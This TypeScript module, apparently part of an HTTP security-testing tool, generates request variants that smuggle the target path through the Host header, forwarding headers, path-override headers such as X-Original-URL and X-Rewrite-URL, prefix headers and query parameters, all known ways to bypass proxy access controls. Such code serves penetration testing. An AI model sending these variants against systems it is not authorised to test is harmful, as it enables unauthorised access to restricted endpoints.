import { type Draft, pathOf, type Variant } from './draft';
import { type Frame, set } from './frame';

/** The path stands in the Host header or in another header, and the target looks harmless. */
export function elsewhere({ host: honestHost }: Frame): Variant[] {
  const moved = (family: string, target: string, place: (path: string) => Partial<Draft>): Variant =>
    set(family, (draft) => {
      const { headers = [], ...rest } = place(pathOf(draft));
      return { ...draft, target, ...rest, headers: [...draft.headers, ...headers] };
    });
  const hosts = [
    ...['?', '#', '?x=', '/?', ';', '%3f', ''].map((end) => ['/', (path: string) => `x${path}${end}`] as const),
    ['/', (path: string) => `x${path.replaceAll('/', '\\')}?`] as const,
    ['/', (path: string) => `u:p@x${path}?`] as const,
    ['/', (path: string) => `x:80${path}?`] as const,
    ['/', (path: string) => `x/y/..${path}#`] as const,
    ['/', (path: string) => path.slice(1)] as const,
    ['/x', (path: string) => `x${path}?`] as const,
    ['*', (path: string) => `x${path}?`] as const,
  ];
  const headerNames = [
    'X-Forwarded-Host',
    'X_Forwarded_Host',
    'X-Host',
    'X-Forwarded-Server',
    'X-Original-Host',
    'Forwarded',
  ];
  const wholePath = [
    'X-Original-URL',
    'X-Rewrite-URL',
    'X_Original_URL',
    'X_Rewrite_URL',
    'X-Rewrite_URL',
    'X-Original-URI',
    'X-Forwarded-Uri',
    'X-Forwarded-Path',
    'X-Envoy-Original-Path',
    'X-Replaced-Path',
    'Request-URI',
    'PATH_INFO',
    'X-Path-Info',
    'SCRIPT_NAME',
  ];
  const split = (path: string) =>
    [path.slice(0, path.lastIndexOf('/')) || '/', path.slice(path.lastIndexOf('/'))] as const;
  const prefixHeaders = [
    'X-Forwarded-Prefix',
    'X-Script-Name',
    'SCRIPT_NAME',
    'SCRIPT-NAME',
    // CGI-style servers take `_` for `-`.
    'X_Script_Name',
    'X-Script_Name',
    'X_Forwarded_Prefix',
    'X-Forwarded-PathBase',
    'X-Forwarded-Path',
  ];
  return [
    ...hosts.map(([target, host]) => moved('host-path', target, (path) => ({ host: host(path) }))),
    moved('host-empty', '/', () => ({ host: '' })),
    ...['', ' ', '\t', ':', ':80', '/', '.', '[', '[]', '@', '?', '#', '\\', ';'].map((host) =>
      set('host-odd', (draft) => ({ ...draft, host })),
    ),
    ...['', ' ', ':80', '/', '\\', '@'].map((host) =>
      set('host-odd', (draft) => ({ ...draft, host, prefix: `${draft.prefix}/x` })),
    ),
    set('host-absent', (draft) => ({ ...draft, host: null })),
    set('host-absent', (draft) => ({ ...draft, host: null, prefix: `${draft.prefix}/x` })),
    ...headerNames.flatMap((name) => [
      moved('forwarded-host-path', '/', (path) => ({
        host: honestHost,
        headers: [[name, name === 'Forwarded' ? `host="x${path}?"` : `x${path}?`]],
      })),
    ]),
    ...[
      'X-Forwarded-Proto',
      'X_Forwarded_Proto',
      'X-Forwarded-Scheme',
      'X-Forwarded-Protocol',
      'X-Url-Scheme',
      'Forwarded',
    ].map((name) =>
      moved('forwarded-proto-path', '/', (path) => ({
        headers: [[name, name === 'Forwarded' ? `proto="http://x${path}?"` : `http://x${path}?`]],
      })),
    ),
    moved('forwarded-port-path', '/', (path) => ({ headers: [['X-Forwarded-Port', `80${path}?`]] })),
    ...wholePath.flatMap((name) => [
      moved('path-header', '/', (path) => ({ headers: [[name, path]] })),
      moved('path-header', '/x', (path) => ({ headers: [[name, path]] })),
    ]),
    ...prefixHeaders.flatMap((name) => [
      set('prefix-header', (draft) => ({
        ...draft,
        prefix: `${draft.prefix}/x`,
        headers: [...draft.headers, [name, '/x']],
      })),
      set('prefix-header', (draft) => ({
        ...draft,
        prefix: `${draft.prefix}/x/y`,
        headers: [...draft.headers, [name, '/x/y/']],
      })),
      set('prefix-header', (draft) => {
        const [front, back] = split(pathOf(draft));
        return { ...draft, target: back, headers: [...draft.headers, [name, front]] };
      }),
    ]),
    ...['', 'r=', 's=', 'q=', '_url=', 'url=', 'rest_route=', 'route=', 'path=', 'x=1&r='].flatMap((name) => [
      moved('query-path', '/', (path) => ({ target: `/?${name}${path}` })),
      moved('query-path', '/', (path) => ({ target: `/index.php?${name}${path}` })),
      moved('query-path', '/', (path) => ({ target: `/?${name}${path.slice(1)}` })),
      moved('query-path', '/', (path) => ({ target: `/?${name}${encodeURIComponent(path)}` })),
    ]),
  ];
}
